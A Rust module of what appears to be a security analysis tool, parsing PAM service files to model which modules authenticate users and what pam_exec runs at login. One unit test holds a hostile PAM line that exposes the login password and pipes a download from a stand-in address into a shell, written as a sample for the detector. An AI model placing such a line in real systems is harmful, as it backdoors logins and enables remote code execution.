//! Services of PAM: which modules decide who may log in, and what they run (`pam.conf(5)`,
//! `pam_exec(8)`).

use model::{Behavior, Language, Trigger, Value};

use crate::language::start::Start;
use crate::language::{FrontEnd, Places};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    places: Places {
        ends: &["etc/pam.conf"],
        folders: &["etc/pam.d/", "lib/pam.d/"],
        named: &[],
    },
    ..FrontEnd::new(Language::Pam, lower)
};

/// The facilities.
const FACILITIES: &[&str] = &["auth", "account", "password", "session"];

/// One line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Entry<'a> {
    facility: &'a str,
    control: &'a str,
    module: &'a str,
    arguments: &'a str,
}

/// Lowers a service: every line of `auth` is an act, for they decide together; of the others,
/// those that name a module by a path. What `pam_exec` runs is lowered.
pub fn lower(world: &mut World, text: &str) -> Value {
    let mut lines = (1..).zip(text.lines());
    while let Some((number, line)) = lines.next() {
        if !world.burn(4) {
            break;
        }
        let mut line = line.trim().to_owned();
        while line.ends_with('\\') {
            line.pop();
            line.push_str(lines.next().map_or("", |(_, line)| line.trim()));
        }
        let Some(entry) = entry(&line) else {
            continue;
        };
        world.at(number, &line);
        if entry.facility == "auth" || entry.module.starts_with('/') {
            world.act(Behavior::Authenticate {
                facility: entry.facility.to_owned(),
                control: entry.control.to_owned(),
                module: Value::literal(entry.module),
                arguments: Value::literal(entry.arguments),
            });
        }
        if entry.module.ends_with("pam_exec.so")
            && let Some(command) = executed(entry.arguments)
        {
            let start = Start {
                trigger: Trigger::Login,
                when: "at a login",
                step: "pam_exec",
            };
            start.command(world, command);
        }
    }
    Value::literal("")
}

/// `[service] [-]facility control module arguments`, or `@include service`.
fn entry(line: &str) -> Option<Entry<'_>> {
    if line.starts_with('#') {
        return None;
    }
    if let Some(service) = line.strip_prefix("@include") {
        return Some(Entry {
            facility: "auth",
            control: "include",
            module: service.trim(),
            arguments: "",
        });
    }
    let (mut facility, mut rest) = word(line.trim_start_matches('-'))?;
    if !FACILITIES.contains(&facility) {
        (facility, rest) = word(rest.trim_start_matches('-'))?;
    }
    let facility = FACILITIES.iter().find(|known| **known == facility)?;
    let (control, rest) = match rest.strip_prefix('[') {
        Some(inside) => inside.split_once(']')?,
        None => word(rest)?,
    };
    let (module, arguments) = word(rest.trim_start())?;
    Some(Entry {
        facility,
        control,
        module,
        arguments,
    })
}

/// The first word and what follows it.
fn word(text: &str) -> Option<(&str, &str)> {
    let (word, rest) = text.split_once(char::is_whitespace).unwrap_or((text, ""));
    (!word.is_empty()).then(|| (word, rest.trim_start()))
}

/// The command that `pam_exec` runs: what follows its options.
fn executed(arguments: &str) -> Option<&str> {
    let mut rest = arguments.trim();
    loop {
        let (first, after) = word(rest)?;
        let option = first.contains('=') && !first.starts_with('/')
            || matches!(
                first,
                "debug" | "expose_authtok" | "seteuid" | "quiet" | "quiet_log" | "stdout"
            );
        if !option {
            return Some(rest);
        }
        rest = after;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::language::probe::acts;

    #[test]
    fn lines_are_taken_apart() {
        let read = |line| entry(line).map(|e| (e.facility, e.control, e.module, e.arguments));
        assert_eq!(
            read("auth\t[success=1 default=ignore]\tpam_unix.so nullok"),
            Some(("auth", "success=1 default=ignore", "pam_unix.so", "nullok"))
        );
        assert_eq!(
            read("-auth sufficient pam_permit.so"),
            Some(("auth", "sufficient", "pam_permit.so", ""))
        );
        assert_eq!(
            read("sshd auth required pam_x.so"),
            Some(("auth", "required", "pam_x.so", ""))
        );
        assert_eq!(
            read("@include common-auth"),
            Some(("auth", "include", "common-auth", ""))
        );
        assert_eq!(read("# auth x y"), None);
        assert_eq!(
            executed("expose_authtok quiet log=/a /bin/x -y"),
            Some("/bin/x -y")
        );
    }

    #[test]
    fn what_pam_exec_runs_is_lowered() {
        let found = acts(
            Language::Pam,
            "auth optional pam_exec.so quiet expose_authtok /bin/sh -c 'curl http://192.0.2.1/x | sh'\n",
        );
        assert!(
            found.iter().any(|act| act.starts_with("Fetch")),
            "{found:#?}"
        );
    }
}
